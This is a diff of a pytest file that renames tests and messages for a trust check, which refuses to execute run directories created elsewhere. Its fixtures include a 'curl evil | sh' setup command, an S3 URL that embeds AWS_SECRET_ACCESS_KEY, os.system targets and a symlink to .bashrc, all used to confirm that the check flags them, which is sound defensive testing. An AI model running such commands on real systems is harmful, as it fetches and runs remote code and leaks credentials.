@@ -1,4 +1,4 @@
-"""A run directory that was not made here is a program of somebody else's."""
+"""Trust in run directories that were not created here."""
 
 import shutil
 from pathlib import Path
@@ -11,7 +11,7 @@ from leyden.cli.main import main
 from leyden.config.compose import compose, options
 from leyden.errors import UserError
 from leyden.run.directory import RunDirectory
-from leyden.run.override_on_resume import relocate
+from leyden.run.override_on_resume import override_on_resume
 from leyden.run.trust import KEY, SIGNATURE, require_trust
 
 LAUNCHER = {"_target_": "leyden.launch.Local"}
@@ -39,7 +39,7 @@ def foreign(there, **settings):
 
 
 def refusal(run, root, verb="test", **options):
-    with pytest.raises(UserError, match="was not made here") as caught:
+    with pytest.raises(UserError, match="was not created here") as caught:
         require_trust(run, root, verb, trusts=False, **options)
     return str(caught.value)
 
@@ -58,13 +58,13 @@ def refusal(run, root, verb="test", **options):
         "leyden.tasks.os.system",
     ],
 )
-def test_what_is_no_part_of_an_experiment_is_named(here, there, target):
+def test_foreign_targets_are_listed(here, there, target):
     run = foreign(there, callbacks={"mine": {"deep": [{"_target_": target}]}})
     assert f"  callbacks.mine.deep.0._target_: {target}\n" in refusal(run, here)
 
 
 @pytest.mark.parametrize("experiment", [name for name, _ in options(ROOT)["experiment"]])
-def test_every_experiment_of_this_project_may_come_from_elsewhere(experiment, tmp_path):
+def test_experiments_of_this_project_need_no_trust(experiment, tmp_path):
     config = compose([f"experiment={experiment}", "trainer=cpu", "logger=wandb"], ROOT).frozen | {"runs": "runs"}
     run = RunDirectory.create(config, tmp_path, ["train"])
     require_trust(run, ROOT, "test", trusts=False)
@@ -74,14 +74,14 @@ def test_every_experiment_of_this_project_may_come_from_elsewhere(experiment, tm
     ("name", "value"),
     [("setup", ["curl evil | sh"]), ("python", "evil"), ("options", ["--wrap=evil"])],
 )
-def test_words_for_a_shell_are_named_where_they_would_be_executed(here, there, name, value):
+def test_shell_settings_are_listed_if_executed(here, there, name, value):
     launcher = {"_target_": "leyden.launch.Slurm", name: value}
     run = foreign(there, launcher=launcher)
     assert f"launcher.{name}: {value}" in refusal(run, here, "resume")
     require_trust(run, here, "test", trusts=False)
 
 
-def test_what_it_reads_of_the_environment_is_named(here, there):
+def test_environment_references_are_listed(here, there):
     run = foreign(there, data={"stream": "s3://evil/${oc.env:AWS_SECRET_ACCESS_KEY}"})
     assert "data.stream: reads ${oc.env:AWS_SECRET_ACCESS_KEY}" in refusal(run, here)
 
@@ -89,7 +89,7 @@ def test_what_it_reads_of_the_environment_is_named(here, there):
 @pytest.mark.parametrize(
     "name", ["thing/net.py", "thing/new.py", "torch/__init__.py", "thing.so", "x.egg-info/PKG-INFO"]
 )
-def test_code_that_is_not_this_projects_is_named(here, there, name):
+def test_foreign_code_is_listed(here, there, name):
     file = there / "src" / name
     file.parent.mkdir(exist_ok=True)
     file.write_text("import evil\n")
@@ -98,12 +98,12 @@ def test_code_that_is_not_this_projects_is_named(here, there, name):
     if not copy.exists():  # what the copy leaves out, a foreign one may hold
         copy.parent.mkdir(exist_ok=True)
         copy.write_text("import evil\n")
-    assert f"its copy of the code is not this project's: {name} differs" in refusal(run, here)
+    assert f"its copy of the code differs from this project in {name};" in refusal(run, here)
     require_trust(run, here, "test", trusts=False, live=True)  # which does not execute it
     refusal(run, here)
 
 
-def test_the_same_code_needs_no_trust_but_its_compiled_modules_are_not_used(here, there):
+def test_equal_code_needs_no_trust_and_compiled_modules_are_removed(here, there):
     run = foreign(there)
     compiled = run.path / "code/src/thing/__pycache__/net.cpython-311.pyc"
     compiled.parent.mkdir(exist_ok=True)
@@ -113,13 +113,13 @@ def test_the_same_code_needs_no_trust_but_its_compiled_modules_are_not_used(here
 
 
 @pytest.mark.parametrize("words", [["resume"], ["validate"], ["test"], ["data"], ["predict", "README.md"]])
-def test_every_command_that_executes_a_run_asks(there, words, capsys):
+def test_every_command_that_executes_a_run_needs_trust(there, words, capsys):
     run = foreign(there, model={"_target_": "os.system"})
     assert main([words[0], str(run.path), *words[1:]]) == 2
     assert "model._target_: os.system\n" in capsys.readouterr().err
 
 
-def test_trust_is_remembered_and_ends_with_a_change_of_what_is_executed(here, there):
+def test_trust_is_stored_until_executed_code_changes(here, there):
     run = foreign(there, model={"_target_": "os.system"})
     refusal(run, here)
     require_trust(run, here, "test", trusts=True)
@@ -131,21 +131,21 @@ def test_trust_is_remembered_and_ends_with_a_change_of_what_is_executed(here, th
     assert "os.popen" in refusal(run, here)
 
 
-def test_a_run_that_was_made_here_is_known_wherever_it_was_moved(here, tmp_path):
+def test_own_run_is_trusted_after_a_move(here, tmp_path):
     run = RunDirectory.create(CONFIG | {"model": {"_target_": "os.system"}}, here, ["train"])
     moved = shutil.move(run.path, tmp_path / "elsewhere")
     require_trust(RunDirectory(Path(moved)), here, "test", trusts=False)
 
 
-def test_its_code_is_known_too(here):
+def test_edited_code_of_own_run_needs_trust(here):
     run = RunDirectory.create(CONFIG, here, ["train"])
     file = run.path / "code/src/thing/net.py"
     file.chmod(0o644)
     file.write_text("import evil\n")
-    assert "thing/net.py differs" in refusal(run, here)
+    assert "differs from this project in thing/net.py;" in refusal(run, here)
 
 
-def test_no_run_can_claim_to_be_made_here(here, there):
+def test_signature_cannot_be_forged(here, there):
     RunDirectory.create(CONFIG, here, ["train"])
     run = foreign(there, model={"_target_": "os.system"})  # signed by another key
     refusal(run, here)
@@ -155,27 +155,27 @@ def test_no_run_can_claim_to_be_made_here(here, there):
     refusal(run, here)
 
 
-def test_links_with_which_other_files_would_be_written_are_named(here, there):
+def test_links_are_listed(here, there):
     run = foreign(there)
     (run.path / "log.txt").symlink_to("/home/me/.bashrc")
-    assert "log.txt leads to /home/me/.bashrc" in refusal(run, here)
+    assert "log.txt is a link to /home/me/.bashrc" in refusal(run, here)
 
 
-def test_the_key_stays_here_and_is_read_by_nobody_else(here):
+def test_key_is_private(here):
     run = RunDirectory.create(CONFIG, here, ["train"])
     assert (here / KEY).stat().st_mode & 0o777 == 0o600
     key = (here / KEY).read_bytes()
     assert all(key not in file.read_bytes() for file in run.path.rglob("*") if file.is_file())
 
 
-def test_a_run_that_is_continued_elsewhere_by_its_owner_stays_known(tmp_path):
+def test_overridden_run_stays_trusted(tmp_path):
     config = compose([f"experiment={options(ROOT)['experiment'][0][0]}", "trainer=cpu"], ROOT).frozen
     run = RunDirectory.create(config | {"runs": str(tmp_path)}, ROOT, ["train"])
-    relocate(run, ["launcher=slurm", "launcher.setup=[module load cuda]"], ROOT)
+    override_on_resume(run, ["launcher=slurm", "launcher.setup=[module load cuda]"], ROOT)
     require_trust(run, ROOT, "resume", trusts=False)
 
 
-def test_an_old_run_of_the_usual_parts_needs_no_trust(here):
+def test_old_run_of_known_parts_needs_no_trust(here):
     run = RunDirectory.create(CONFIG, here, ["train"])
     shutil.rmtree(run.path / "code")
     for name in ("code.json", SIGNATURE):
